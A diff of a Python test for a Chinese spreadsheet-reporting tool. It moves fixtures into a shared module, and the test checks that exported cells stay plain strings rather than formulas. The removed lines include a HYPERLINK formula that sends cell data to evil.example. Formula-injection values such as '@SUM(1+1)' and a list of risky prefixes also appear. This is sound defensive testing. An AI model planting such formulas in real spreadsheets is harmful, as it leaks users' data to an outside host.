@@ -8,7 +8,6 @@ dabiao writes (the format that keeps digits as typed) holds
 strings (never formulas), borders, the header repeated on every printed page, A4 landscape,
 a frozen header, widths for Chinese text and the 填报单位/填报人/填报日期 lines."""
 import csv
-import io
 import os
 import shutil
 import subprocess
@@ -18,55 +17,9 @@ import openpyxl
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
 from dabiao_it import Store, check, done, eq  # noqa: E402
+from spreadsheet_it import EVIL, PLAN, registry  # noqa: E402
 
-PLAN = """\
-plan: ss
-title: 表格测试
-timezone: Asia/Shanghai
-issuer: {name: 某某市生态环境局}
-roles:
-  county: {title: 县环保局, per: jurisdiction}
-  ent: {title: 企业, per: enterprise}
-lifecycles:
-  fix:
-    initial: listed
-    states: [listed, fixing, done, overdue]
-    final: [done]
-    events:
-      start: {listed: fixing}
-      verify: {fixing: done, overdue: done}
-    deadline: {from: [listed, fixing], to: overdue}
-phases:
-  - id: p
-    title: 阶段
-    milestones:
-      - id: rectification
-        title: 限期整改
-        owner: ent
-        for: each enterprise
-        where: {listed: true}
-        due: {field: rectify_by}
-        lifecycle: fix
-"""
-EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
-REG = f"""\
-jurisdictions:
-  - {{id: a, name: 甲县, kind: county, email: [a@x.example]}}
-enterprises:
-  - id: 91652301MA74H957X2
-    name: '{EVIL.replace("'", "''")}'
-    jurisdiction: a
-    industry: steel
-    listed: true
-    measure: closure
-    rectify_by: 2017-06-30
-    responsible_unit: '000123'
-    responsible_person: '@SUM(1+1)'
-    email: [e@x.example]
-    attrs: {{pollutants: '123456789012345678', reason: '-2+3'}}
-offices:
-  admin: [admin@x.example]
-"""
+REG = registry("91652301MA74H957X2", EVIL, "000123", "@SUM(1+1)", "123456789012345678", "-2+3")
 RISKY = ("=", "+", "-", "@", "\t", "\r")
 
 st = Store()
